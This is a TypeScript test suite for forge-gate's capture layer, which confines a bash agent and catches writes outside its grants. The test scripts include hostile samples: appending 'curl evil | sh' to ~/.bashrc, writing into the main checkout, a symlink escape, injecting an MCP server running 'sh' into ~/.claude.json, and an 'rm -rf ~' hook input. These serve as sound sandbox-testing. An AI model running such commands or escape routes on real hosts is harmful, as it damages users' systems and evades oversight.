import { spawn, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { agentEnv, type Fixture, gateRun, git, makeFixture, runAsNobody } from "../collect/fixture.js";
import { CLI, type CliResult, runNodeAsync } from "../support/cli.js";
import { scratchIsTemp, scratchRoot } from "../support/scratch.js";

/**
 * The capture layer, end to end: `forge-gate run` (no --enforce) with a real bash agent. What the agent
 * writes outside its grants goes to overlays: it works for the agent, is judged (named when it escapes),
 * is kept for review, and never reaches the host; what other programs change there meanwhile is host
 * activity. Fixtures live outside the temp directories (which the layer makes private).
 */

interface Report {
  verdict: string;
  attribution: string;
  attribution_detail: string;
  capture?: {
    overlays: number;
    kept: string | null;
    applied: string[];
    not_captured: { path: string }[];
    read_only: { path: string }[];
    private_temp: string[];
  };
  command: { exit_code: number | null; survivors_killed: number };
  changes: { path: string; change: string; source: string; captured?: string }[];
  host_activity: { path: string; change: string }[];
  violations: { path: string; reason: string }[];
  snapshot: { narrowed: { path: string; parts: string[] }[] };
  coverage: { skipped: { path: string; reason: string }[] };
}

const made: string[] = [];
afterAll(() => {
  for (const d of made) rmSync(d, { recursive: true, force: true });
});

function fixture(leaseExtra = ""): Fixture {
  const f = makeFixture({ under: scratchRoot(), leaseExtra });
  made.push(f.T);
  return f;
}

function report(r: Pick<CliResult, "status" | "stdout" | "stderr">): Report {
  try {
    return JSON.parse(r.stdout) as Report;
  } catch {
    throw new Error(`no JSON report (exit ${r.status}): ${r.stderr}`);
  }
}

/** The agent's own output goes to stderr, so the JSON report is all of stdout. */
const run = (f: Fixture, script: string, extra: string[] = []) => gateRun(f, `exec 1>&2\n${script}`, extra);

describe("the capture layer: clean work", () => {
  it("edits, commits, mktemp and the worktree's own files pass; attribution capture in JSON, text and github", () => {
    const f = fixture();
    const script = [
      "echo more >> README.md",
      "echo new > src/new.txt",
      'git add -A && git commit -qm "agent work"',
      't="$(mktemp)" && echo scratch > "$t" && test -s "$t"',
      "test -w /tmp && echo x > /tmp/fg-capture-private",
    ].join("\n");
    const r = run(f, script);
    const rep = report(r);
    expect(rep.command.exit_code, r.stderr).toBe(0);
    expect(rep.attribution).toBe("capture");
    expect(rep.attribution_detail).toMatch(/^exact: /);
    expect(rep.violations).toEqual([]);
    expect(r.status).toBe(0);
    expect(git(["log", "--format=%s", "-1", "agent"], f.repo).trim()).toBe("agent work");
    // Temp dirs are private: the agent's temp files never reach the host.
    expect(existsSync("/tmp/fg-capture-private")).toBe(false);
    expect(rep.capture?.kept).toBeNull();

    const text = run(f, "echo again >> README.md", ["--format", "text"]);
    expect(text.status, text.stderr).toBe(0);
    expect(text.stderr).toMatch(/forge-gate: attribution: capture: exact: /);
    const gh = run(f, "echo again >> README.md", ["--format", "github"]);
    expect(gh.stdout).toMatch(/^::notice title=forge-gate attribution::capture: exact: /m);
  });
});

describe("the capture layer: escapes are refused, named, kept for review and never applied", () => {
  const cases: {
    name: string;
    script: string;
    path: (f: Fixture) => string;
    change: string;
    host: (f: Fixture) => void;
  }[] = [
    {
      name: "an append to ~/.bashrc",
      script: 'echo "curl evil | sh" >> "$HOME/.bashrc"',
      path: (f) => join(f.home, ".bashrc"),
      change: "modified",
      host: (f) => expect(readFileSync(join(f.home, ".bashrc"), "utf8")).toBe("# rc\n"),
    },
    {
      name: "a write into the main checkout",
      script: 'echo pwned > "$REPO/escape.txt"',
      path: (f) => join(f.repo, "escape.txt"),
      change: "created",
      host: (f) => expect(existsSync(join(f.repo, "escape.txt"))).toBe(false),
    },
    {
      name: "a write into a sibling directory beside the checkouts",
      script: 'mkdir -p "$T/sibling/src" && echo pwned > "$T/sibling/src/x"',
      path: (f) => join(f.T, "sibling"),
      change: "created",
      host: (f) => expect(existsSync(join(f.T, "sibling"))).toBe(false),
    },
    {
      name: "a deletion outside",
      script: 'rm "$HOME/old.txt"',
      path: (f) => join(f.home, "old.txt"),
      change: "deleted",
      host: (f) => expect(readFileSync(join(f.home, "old.txt"), "utf8")).toBe("old\n"),
    },
    {
      name: "a chmod outside (a metadata-only copy)",
      script: 'chmod 600 "$HOME/notes.txt"',
      path: (f) => join(f.home, "notes.txt"),
      change: "mode",
      host: (f) => expect(statSync(join(f.home, "notes.txt")).mode & 0o777).toBe(0o644),
    },
    {
      name: "a directory removed and made again (its old entries are deleted)",
      script: 'mkdir -p "$HOME/.config/app" && rm -rf "$HOME/.config" && mkdir "$HOME/.config"',
      path: (f) => join(f.home, ".config", "app"),
      change: "deleted",
      host: (f) => expect(existsSync(join(f.home, ".config", "app", "keep"))).toBe(true),
    },
  ];

  for (const c of cases) {
    it(c.name, () => {
      const f = fixture();
      if (c.name.startsWith("a directory removed")) {
        mkdirSync(join(f.home, ".config", "app"), { recursive: true });
        writeFileSync(join(f.home, ".config", "app", "keep"), "k\n");
      }
      const r = run(f, c.script);
      const rep = report(r);
      expect(rep.command.exit_code, r.stderr).toBe(0);
      expect(r.status, r.stderr).toBe(1);
      // Named: the escape and nothing else (no noise from the run itself).
      if (!(c.name.includes("sibling") && scratchIsTemp()))
        expect(rep.violations.map((v) => v.path)).toContain(c.path(f));
      expect(rep.changes.find((x) => x.path === c.path(f))).toMatchObject({
        source: "capture",
        change: c.change,
      });
      c.host(f);
      // Kept where the report says, mapped to where it belongs.
      expect(rep.capture?.kept).toBeTruthy();
      expect(existsSync(join(rep.capture!.kept!, "capture.json"))).toBe(true);
      rmSync(rep.capture!.kept!, { recursive: true, force: true });
    });
  }

  it("a write through a symlink planted in the worktree lands in the capture, and the link itself is refused", () => {
    const f = fixture();
    const r = run(f, 'ln -s "$HOME" home-link\necho x > home-link/planted.txt');
    const rep = report(r);
    expect(r.status).toBe(1);
    expect(existsSync(join(f.home, "planted.txt"))).toBe(false);
    expect(rep.violations).toContainEqual(expect.objectContaining({ path: join(f.home, "planted.txt") }));
    expect(rep.violations).toContainEqual(
      expect.objectContaining({ path: join(f.wt, "home-link"), reason: "symlink_escape" }),
    );
  });

  it("an xattr set on a file outside (content and mode unchanged) is a change", () => {
    const f = fixture();
    if (spawnSync("setfattr", ["--version"]).status !== 0) return;
    const r = run(f, 'setfattr -n user.evil -v 1 "$HOME/notes.txt"');
    const rep = report(r);
    expect(rep.violations.map((v) => v.path)).toEqual([join(f.home, "notes.txt")]);
  });

  it("a file only opened for writing, rewritten with the same bytes, or touched is no change (meaning over bytes)", () => {
    const f = fixture();
    const r = run(
      f,
      [
        ': >> "$HOME/notes.txt"',
        'cat "$HOME/old.txt" > "$HOME/o2" && cp "$HOME/o2" "$HOME/old.txt" && rm "$HOME/o2"',
        'touch "$HOME/secret.txt"',
      ].join("\n"),
    );
    const rep = report(r);
    expect(rep.command.exit_code, r.stderr).toBe(0);
    expect(rep.violations).toEqual([]);
    expect(r.status).toBe(0);
  });

  it.runIf(process.getuid?.() === 0)(
    "as root: a write to /etc is captured and named; the host's /etc is untouched",
    () => {
      const f = fixture();
      const name = `/etc/fg-capture-${process.pid}-${Date.now()}`;
      const r = run(f, `echo evil > ${name}`);
      expect(report(r).violations.map((v) => v.path)).toContain(name);
      expect(existsSync(name)).toBe(false);
    },
  );
});

describe("the capture layer: other programs' changes are host activity", () => {
  it.each([
    ["not walked (the agent could not reach them), said in the report", false],
    ["named with --watch: walked, listed as host activity", true],
  ])(
    "HOME and a checkout changed by another program while the agent runs: %s; never judged, the run passes",
    async (_, watched) => {
      const f = fixture();
      const file = join(f.T, "agent.sh");
      // The agent says it runs (a marker in its worktree) and waits until the other program is done.
      writeFileSync(
        file,
        "exec 1>&2\necho work >> README.md\ntouch .started\nwhile [ ! -e .other-done ]; do sleep 0.05; done\nrm .started .other-done\n",
      );
      const other = spawn("bash", [
        "-c",
        `while [ ! -e "$3/.started" ]; do sleep 0.05; done; echo other >> "$1/.bashrc"; mkdir -p "$1/.cache/tool"; echo s > "$1/.cache/tool/state"; echo x > "$2/other.txt"; touch "$3/.other-done"`,
        "x",
        f.home,
        f.repo,
        f.wt,
      ]);
      const otherDone = new Promise((done) => other.once("close", done));
      const r = await runNodeAsync(
        CLI,
        [
          "run",
          "--lease",
          f.lease,
          ...f.rootFlags,
          ...(watched ? ["--watch", f.home, "--watch", f.repo] : []),
          "--format",
          "json",
          "--",
          "bash",
          file,
        ],
        { cwd: f.wt, env: agentEnv(f) },
      );
      await otherDone;
      const rep = report(r);
      expect(rep.violations, r.stderr).toEqual([]);
      expect(r.status).toBe(0);
      const host = rep.host_activity.map((c) => c.path);
      const others = [join(f.home, ".bashrc"), join(f.repo, "other.txt")];
      if (watched) expect(host).toEqual(expect.arrayContaining(others));
      else {
        // Outside the agent's reach, the default roots are not walked: nothing there is listed, and the
        // report names each root left out and why (the main checkout: only its git directory is walked).
        for (const p of others) expect(host).not.toContain(p);
        expect(rep.coverage.skipped).toContainEqual({
          path: f.home,
          reason: expect.stringMatching(/^not walked: /),
        });
        expect(rep.coverage.skipped).toContainEqual({
          path: f.repo,
          reason: expect.stringMatching(
            /^walked only where the agent's writes could reach the host \(.*\.git\)/,
          ),
        });
      }
      for (const p of others) expect(rep.changes.map((c) => c.path)).not.toContain(p);
      // The host's own change stands; the agent's is judged as usual.
      expect(readFileSync(join(f.home, ".bashrc"), "utf8")).toBe("# rc\nother\n");
    },
  );
});

describe("the capture layer: keyed files", () => {
  const CLAUDE_JSON = JSON.stringify({ numStartups: 3, mcpServers: {}, projects: {} });
  const rewrite = (expr: string) =>
    `node -e 'const fs=require("fs");const p=process.env.HOME+"/.claude.json";const d=JSON.parse(fs.readFileSync(p));${expr};fs.writeFileSync(p+".tmp",JSON.stringify(d));fs.renameSync(p+".tmp",p)'`;

  it("~/.claude.json rewritten by rename with session keys only: granted, and written back to the host", () => {
    const f = fixture("agent: claude-code\n");
    writeFileSync(join(f.home, ".claude.json"), CLAUDE_JSON);
    const r = run(f, rewrite("d.numStartups++"));
    const rep = report(r);
    expect(rep.violations, r.stderr).toEqual([]);
    expect(rep.capture?.applied).toEqual([join(f.home, ".claude.json")]);
    expect(JSON.parse(readFileSync(join(f.home, ".claude.json"), "utf8")).numStartups).toBe(4);
  });

  it("an MCP server added the same way: refused, and the host's file is untouched", () => {
    const f = fixture("agent: claude-code\n");
    writeFileSync(join(f.home, ".claude.json"), CLAUDE_JSON);
    const r = run(f, rewrite('d.mcpServers.evil={command:"sh"}'));
    const rep = report(r);
    expect(r.status).toBe(1);
    expect(rep.violations.map((v) => v.path)).toContain(join(f.home, ".claude.json"));
    expect(readFileSync(join(f.home, ".claude.json"), "utf8")).toBe(CLAUDE_JSON);
    expect(rep.capture?.applied).toEqual([]);
  });
});

describe("the capture layer: choosing and falling back", () => {
  /** A PATH with everything a run needs but bubblewrap. */
  const pathWithoutBwrap = (f: Fixture) => {
    const bin = join(f.T, "bin");
    mkdirSync(bin);
    for (const tool of [
      "bash",
      "git",
      "env",
      "sh",
      "true",
      "find",
      "getfattr",
      "unshare",
      "mount",
      "cat",
      "mkdir",
    ]) {
      const found = spawnSync("bash", ["-c", `command -v ${tool}`], { encoding: "utf8" }).stdout.trim();
      if (found) symlinkSync(found, join(bin, tool));
    }
    symlinkSync(process.execPath, join(bin, "node"));
    return bin;
  };

  it("--attribution none: detection only, said", () => {
    const f = fixture();
    const rep = report(run(f, "echo x >> README.md", ["--attribution", "none"]));
    expect(rep.attribution).toBe("none");
    expect(rep.attribution_detail).toMatch(/detection only.*--attribution none/);
    expect(rep.capture).toBeUndefined();
  });

  it("no bubblewrap: auto falls back to detection only and says why; --attribution capture exits 2", () => {
    const f = fixture();
    const PATH = pathWithoutBwrap(f);
    const file = join(f.T, "agent.sh");
    writeFileSync(file, "echo x >> README.md\n");
    const args = ["run", "--lease", f.lease, ...f.rootFlags, "--format", "json"];
    const auto = spawnSync(process.execPath, [CLI, ...args, "--", "bash", file], {
      cwd: f.wt,
      env: { ...agentEnv(f), PATH },
      encoding: "utf8",
    });
    const rep = JSON.parse(auto.stdout) as Report;
    expect(rep.attribution, auto.stderr).toBe("none");
    expect(rep.attribution_detail).toMatch(/bubblewrap \(bwrap\) is not installed/);
    const required = spawnSync(
      process.execPath,
      [CLI, ...args, "--attribution", "capture", "--", "bash", file],
      {
        cwd: f.wt,
        env: { ...agentEnv(f), PATH },
        encoding: "utf8",
      },
    );
    expect(required.status).toBe(2);
    expect(JSON.parse(required.stdout).error.code).toBe("capture_unavailable");
  });

  it("--attribution with --enforce is a usage error", () => {
    const f = fixture();
    const r = run(f, "true", ["--enforce", "--attribution", "none"]);
    expect(r.status).toBe(2);
  });
});

describe("the capture layer as an unprivileged user (a user namespace)", () => {
  const isRoot = process.getuid?.() === 0;
  it.runIf(isRoot)(
    "as nobody: the agent keeps its uid, clean work passes, an escape is named and kept off the host",
    () => {
      const f = fixture();
      for (let d = dirname(f.T); d !== "/"; d = dirname(d)) if ((statSync(d).mode & 0o001) === 0) return; // not reachable
      const nobody = (script: string) => {
        const r = runAsNobody(f, script);
        return { r, rep: JSON.parse(r.stdout) as Report };
      };
      const clean = nobody(
        'test "$(id -u)" = 65534\necho ok > ok.txt\ngit add ok.txt && git commit -qm ok\nmktemp >/dev/null',
      );
      expect(clean.rep.attribution, clean.r.stderr).toBe("capture");
      expect(clean.rep.command.exit_code, clean.r.stderr).toBe(0);
      expect(clean.rep.violations).toEqual([]);
      const escaped = nobody('echo x >> "$HOME/.bashrc"');
      expect(escaped.rep.violations.map((v) => v.path)).toEqual([join(f.home, ".bashrc")]);
      expect(readFileSync(join(f.home, ".bashrc"), "utf8")).toBe("# rc\n");
    },
  );
});

describe("the capture layer: what cannot be captured is said, and judged by detection", () => {
  it.runIf(process.getuid?.() === 0)(
    "a directory overlayfs refuses (already stacked two deep) is shared as it is, listed under not_captured, and a write there is still refused",
    () => {
      const f = fixture();
      const o = join(f.T, "ovl");
      for (const d of ["l1", "u1", "w1", "m1", "u2", "w2"]) mkdirSync(join(o, d), { recursive: true });
      mkdirSync(join(f.home, "deep"));
      const file = join(f.T, "agent.sh");
      writeFileSync(file, 'exec 1>&2\necho x > "$HOME/deep/planted"\n');
      // In a mount namespace of the test's own (nothing is mounted on the host): $HOME/deep becomes an
      // overlay over an overlay, so a third one on top of it is past the kernel's stacking limit.
      const script = [
        'mount -t overlay a -o "lowerdir=$1/l1,upperdir=$1/u1,workdir=$1/w1" "$1/m1"',
        'mount -t overlay b -o "lowerdir=$1/m1,upperdir=$1/u2,workdir=$1/w2" "$2"',
        "shift 2",
        'exec "$@"',
      ].join("\n");
      const r = spawnSync(
        "unshare",
        [
          "--mount",
          "--propagation",
          "private",
          "--",
          "sh",
          "-c",
          script,
          "sh",
          o,
          join(f.home, "deep"),
          process.execPath,
          CLI,
          "run",
          "--lease",
          f.lease,
          ...f.rootFlags,
          "--format",
          "json",
          "--",
          "bash",
          file,
        ],
        { cwd: f.wt, env: agentEnv(f), encoding: "utf8" },
      );
      const rep = JSON.parse(r.stdout) as Report;
      expect(rep.attribution, r.stderr).toBe("capture");
      expect(rep.capture?.not_captured).toContainEqual({
        path: join(f.home, "deep"),
        why: expect.stringMatching(/overlayfs could not be mounted here.*detection only/),
      });
      // HOME was first planned as an overlay (not walked); once the probe shared $HOME/deep, the snapshot
      // was taken again over it before the agent ran.
      expect(rep.snapshot.narrowed.find((n) => n.path === f.home)?.parts).toContain(join(f.home, "deep"));
      // Shared, so judged by detection: the write is on the (namespace's) host and refused.
      expect(rep.changes.find((c) => c.path === join(f.home, "deep", "planted"))?.source).toBe("snapshot");
      expect(rep.violations.map((v) => v.path)).toContain(join(f.home, "deep", "planted"));
      expect(r.status).toBe(1);
    },
  );
});

describe("gate and collect name their attribution: none (they run apart from the agent)", () => {
  it("JSON, text and github say detection only", () => {
    const f = fixture();
    const snap = spawnSync(
      process.execPath,
      [
        CLI,
        "snapshot",
        "--lease",
        f.lease,
        ...f.rootFlags,
        "--output",
        join(f.snaps, "s.fgsnap"),
        "--format",
        "json",
      ],
      { cwd: f.wt, env: agentEnv(f), encoding: "utf8" },
    );
    const { snapshot, digest } = JSON.parse(snap.stdout) as { snapshot: string; digest: string };
    const cli = (args: string[]) =>
      spawnSync(process.execPath, [CLI, ...args, "--snapshot", snapshot, "--snapshot-digest", digest], {
        cwd: f.wt,
        env: agentEnv(f),
        encoding: "utf8",
      });
    const collect = cli(["collect", "--lease", f.lease, "--format", "json"]);
    expect(JSON.parse(collect.stdout)).toMatchObject({
      attribution: "none",
      attribution_detail: expect.stringMatching(/^detection only/),
    });
    const gate = cli(["gate", "--lease", f.lease, "--format", "json"]);
    expect(JSON.parse(gate.stdout)).toMatchObject({ attribution: "none" });
    expect(cli(["gate", "--lease", f.lease, "--format", "text"]).stdout).toMatch(
      /^attribution: none: detection only/m,
    );
    expect(cli(["gate", "--lease", f.lease, "--format", "github"]).stdout).toMatch(
      /^::notice title=forge-gate attribution::none: /m,
    );
  });
});

describe("captured writes are judged by the same host presets", () => {
  it("classify's counters in forge-gate's state directory (the forge-gate preset): set aside, the run passes", () => {
    const f = fixture();
    const r = run(
      f,
      'mkdir -p "$HOME/.local/state/forge-gate/sessions" && echo "{}" > "$HOME/.local/state/forge-gate/sessions/s1"',
    );
    const rep = report(r);
    expect(rep.violations, r.stderr).toEqual([]);
    expect(r.status).toBe(0);
    // A file beside them is not forge-gate's: refused.
    const other = report(
      run(f, 'mkdir -p "$HOME/.local/state" && echo x > "$HOME/.local/state/forge-gate-not-ours"'),
    );
    expect(other.violations.map((v) => v.path)).toContain(
      join(f.home, ".local", "state", "forge-gate-not-ours"),
    );
  });

  /** A hook's call, as the client makes it: the real classify (its code cache, counters and caches). */
  const hookCall = (state: string) =>
    `echo '{"tool_name":"Bash","tool_input":{"command":"rm -rf ~"},"session_id":"s1"}' | ${JSON.stringify(process.execPath)} ${JSON.stringify(CLI)} classify ${state} --format text || true`;

  it("a real classify hook's first call on a fresh machine (state directory, code cache, counters): the run passes", () => {
    const f = fixture();
    const r = run(f, hookCall(""));
    expect(report(r).violations, r.stderr).toEqual([]);
    expect(r.status).toBe(0);
    // Written in the layer and dropped: the host's state directory never saw it.
    expect(existsSync(join(f.home, ".local", "state", "forge-gate"))).toBe(false);
  });

  it("a hook given `classify --state DIR`: run --state DIR sets its writes aside; without it they are refused", () => {
    const f = fixture();
    const state = join(f.home, "hook-state");
    const without = report(run(f, hookCall(`--state ${JSON.stringify(state)}`)));
    expect(without.violations.map((v) => v.path)).toContain(join(state, "sessions"));
    const r = run(f, hookCall(`--state ${JSON.stringify(state)}`), ["--state", state]);
    expect(report(r).violations, r.stderr).toEqual([]);
    expect(r.status).toBe(0);
  });
});
